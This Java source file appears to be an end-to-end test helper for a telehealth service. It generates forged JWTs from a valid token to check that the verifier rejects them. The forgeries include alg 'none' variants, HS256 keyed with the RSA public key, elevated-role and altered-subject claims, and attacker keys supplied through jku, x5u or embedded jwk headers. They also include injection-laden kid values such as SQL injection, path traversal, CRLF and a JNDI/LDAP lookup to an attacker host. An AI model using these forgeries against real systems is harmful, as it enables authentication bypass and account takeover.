package vn.telehealth.e2e;

import com.nimbusds.jose.JOSEException;
import com.nimbusds.jose.JWSAlgorithm;
import com.nimbusds.jose.JWSHeader;
import com.nimbusds.jose.JWSObject;
import com.nimbusds.jose.Payload;
import com.nimbusds.jose.crypto.MACSigner;
import com.nimbusds.jose.crypto.RSASSASigner;
import com.nimbusds.jose.jwk.RSAKey;
import com.nimbusds.jose.jwk.gen.RSAKeyGenerator;
import com.nimbusds.jose.util.Base64URL;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.security.interfaces.RSAPublicKey;
import java.util.Arrays;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ObjectNode;

/** What an attacker makes of a good token, with nothing but the realm's public key and keys of his own. */
final class ForgedTokens {

    private static final JsonMapper JSON = JsonMapper.shared();

    private final String token;
    private final String[] parts;
    private final RSAKey realmKey;
    private final RSAKey ownKey;
    private final URI ownServer;

    /**
     * @param token good for everything
     * @param realmKey public key that it was signed with
     * @param ownServer where the attacker serves his own key set
     */
    ForgedTokens(String token, RSAKey realmKey, RSAKey ownKey, URI ownServer) {
        this.token = token;
        this.parts = token.split("\\.", -1);
        this.realmKey = realmKey;
        this.ownKey = ownKey;
        this.ownServer = ownServer;
    }

    static RSAKey key(String kid) throws JOSEException {
        return new RSAKeyGenerator(2048).keyID(kid).generate();
    }

    Map<String, String> all() throws JOSEException {
        Map<String, String> forged = new LinkedHashMap<>();
        for (String none : List.of("none", "None", "NONE", "nOnE")) {
            forged.put("alg " + none, header(none) + "." + parts[1] + ".");
        }
        forged.put("alg none, signature kept", header("none") + "." + parts[1] + "." + parts[2]);
        forged.put("alg missing", encoded("{}") + "." + parts[1] + "." + parts[2]);
        macs(forged);
        edits(forged);
        ownKeys(forged);
        headers(forged);
        shapes(forged);
        return forged;
    }

    /** The public key is no secret, so whoever takes it for one lets everybody sign. */
    private void macs(Map<String, String> forged) throws JOSEException {
        RSAPublicKey key = realmKey.toRSAPublicKey();
        String pem = "-----BEGIN PUBLIC KEY-----\n"
                + Base64.getMimeEncoder(64, new byte[] {'\n'}).encodeToString(key.getEncoded())
                + "\n-----END PUBLIC KEY-----\n";
        forged.put("HS256 with the public key, DER", mac(key.getEncoded()));
        forged.put("HS256 with the public key, PEM", mac(pem.getBytes(StandardCharsets.US_ASCII)));
        forged.put("HS256 with the modulus", mac(key.getModulus().toByteArray()));
        forged.put(
                "HS256 with the JWK", mac(realmKey.toPublicJWK().toJSONString().getBytes(StandardCharsets.US_ASCII)));
    }

    private void edits(Map<String, String> forged) {
        forged.put(
                "role added",
                withClaim(claims -> claims.putArray("roles").add("admin").add("auditor")));
        forged.put("another's subject", withClaim(claims -> claims.put("sub", "00000000-0000-0000-0000-000000000000")));
        forged.put("longer life", withClaim(claims -> claims.put("exp", 4_102_444_800L)));
        forged.put("higher level", withClaim(claims -> claims.put("acr", "aal3")));
        forged.put("more scope", withClaim(claims -> claims.put("scope", "audit:read physicians:admin")));
        byte[] signature = Base64.getUrlDecoder().decode(parts[2]);
        for (int at : new int[] {0, signature.length / 2, signature.length - 1}) {
            byte[] flipped = signature.clone();
            flipped[at] ^= 1;
            forged.put("signature, byte " + at + " flipped", parts[0] + "." + parts[1] + "." + encoded(flipped));
        }
        forged.put(
                "signature, half",
                parts[0] + "." + parts[1] + "." + encoded(Arrays.copyOf(signature, signature.length / 2)));
        forged.put("signature of zeros", parts[0] + "." + parts[1] + "." + encoded(new byte[signature.length]));
        forged.put("signature missing", parts[0] + "." + parts[1] + ".");
    }

    private void ownKeys(Map<String, String> forged) throws JOSEException {
        JWSHeader.Builder plain = new JWSHeader.Builder(JWSAlgorithm.RS256);
        String kid = realmKey.getKeyID();
        URI keys = ownServer.resolve("/certs");
        forged.put("own key under the realm's kid", own(plain.keyID(kid).build()));
        forged.put(
                "own key under its own kid", own(plain.keyID(ownKey.getKeyID()).build()));
        forged.put("own key without a kid", own(new JWSHeader(JWSAlgorithm.RS256)));
        forged.put(
                "own key in jwk", own(plain.keyID(kid).jwk(ownKey.toPublicJWK()).build()));
        forged.put(
                "own key at jku",
                own(new JWSHeader.Builder(JWSAlgorithm.RS256)
                        .keyID(ownKey.getKeyID())
                        .jwkURL(keys)
                        .build()));
        forged.put(
                "own key at x5u",
                own(new JWSHeader.Builder(JWSAlgorithm.RS256)
                        .keyID(ownKey.getKeyID())
                        .x509CertURL(keys)
                        .build()));
        for (String hostile : List.of(
                "",
                "../../../../dev/null",
                "' or '1'='1",
                keys.toString(),
                "\u0000",
                "\r\nX-Evil: 1",
                "k".repeat(4_000))) {
            forged.put(
                    "kid "
                            + hostile.substring(0, Math.min(hostile.length(), 24))
                                    .replaceAll("\\p{Cntrl}", "."),
                    own(new JWSHeader.Builder(JWSAlgorithm.RS256).keyID(hostile).build()));
        }
        for (JWSAlgorithm algorithm : List.of(JWSAlgorithm.RS384, JWSAlgorithm.RS512, JWSAlgorithm.PS256)) {
            forged.put(
                    "own key by " + algorithm,
                    own(new JWSHeader.Builder(algorithm).keyID(kid).build()));
        }
    }

    /** Headers that point to a key of the attacker's, or are not what readers of headers expect. */
    private void headers(Map<String, String> forged) {
        String kid = realmKey.getKeyID();
        String own = ownKey.toPublicJWK().toJSONString();
        String keys = ownServer.resolve("/certs").toString();
        for (String fields : List.of(
                "\"kid\":\"" + kid + "\",\"jku\":\"" + keys + "\"",
                "\"kid\":\"" + kid + "\",\"x5u\":\"" + keys + "\"",
                "\"kid\":\"" + kid + "\",\"jku\":\"" + keys + "\",\"jwk\":" + own,
                "\"kid\":\"" + kid + "\",\"x5c\":[\"" + encoded(own) + "\"]",
                "\"kid\":\"" + kid + "\",\"iss\":\"" + keys + "\"",
                "\"kid\":[\"" + kid + "\",\"attacker\"]",
                "\"kid\":{\"$ne\":\"\"}",
                "\"kid\":0",
                "\"kid\":null",
                "\"kid\":\"${jndi:ldap://" + ownServer.getAuthority() + "/x}\"",
                "\"kid\":\"" + kid + "\",\"kid\":\"attacker\"",
                "\"kid\":\"" + kid + "\",\"alg\":\"none\"",
                "\"kid\":\"" + kid + "\",\"zip\":\"DEF\"",
                "\"kid\":\"" + kid + "\",\"b64\":false,\"crit\":[\"b64\"]",
                "\"kid\":\"" + kid + "\",\"crit\":[]",
                "\"kid\":\"" + kid + "\",\"crit\":[\"alg\"]")) {
            String payload = new String(Base64.getUrlDecoder().decode(parts[1]), StandardCharsets.UTF_8);
            forged.put(
                    "own key, header " + forged.size() + " "
                            + fields.replace(kid, "KID").lines().findFirst().orElse(""),
                    RealmKey.sign(ownKey, "{\"alg\":\"RS256\"," + fields + "}", payload));
        }
    }

    private void shapes(Map<String, String> forged) {
        forged.put("five parts", token + ".a.b");
        forged.put("two parts", parts[0] + "." + parts[1]);
        forged.put("no parts", "..");
        forged.put("padded", parts[0] + "=." + parts[1] + "." + parts[2]);
        forged.put("plain text", "let-me-in");
        forged.put(
                "as JSON",
                "{\"payload\":\"" + parts[1] + "\",\"signatures\":[{\"protected\":\"" + parts[0] + "\",\"signature\":\""
                        + parts[2] + "\"}]}");
        forged.put(
                "another realm's issuer, kept signature", withClaim(claims -> claims.put("iss", ownServer.toString())));
        forged.put(
                "crit that nobody knows",
                encoded("{\"alg\":\"RS256\",\"crit\":[\"exp2\"],\"exp2\":1,\"kid\":\"" + realmKey.getKeyID() + "\"}")
                        + "." + parts[1] + "." + parts[2]);
    }

    private interface Edit {
        void make(ObjectNode claims);
    }

    private String withClaim(Edit edit) {
        ObjectNode claims = (ObjectNode) JSON.readTree(Base64.getUrlDecoder().decode(parts[1]));
        edit.make(claims);
        return parts[0] + "." + encoded(claims.toString()) + "." + parts[2];
    }

    private String header(String algorithm) {
        return encoded("{\"alg\":\"" + algorithm + "\",\"typ\":\"JWT\",\"kid\":\"" + realmKey.getKeyID() + "\"}");
    }

    private String mac(byte[] secret) throws JOSEException {
        JWSObject forged = new JWSObject(
                new JWSHeader.Builder(JWSAlgorithm.HS256)
                        .keyID(realmKey.getKeyID())
                        .build(),
                new Payload(Base64URL.from(parts[1])));
        forged.sign(new MACSigner(secret));
        return forged.serialize();
    }

    private String own(JWSHeader header) throws JOSEException {
        JWSObject forged = new JWSObject(header, new Payload(Base64URL.from(parts[1])));
        forged.sign(new RSASSASigner(ownKey));
        return forged.serialize();
    }

    private static String encoded(String text) {
        return encoded(text.getBytes(StandardCharsets.UTF_8));
    }

    private static String encoded(byte[] bytes) {
        return Base64.getUrlEncoder().withoutPadding().encodeToString(bytes);
    }
}
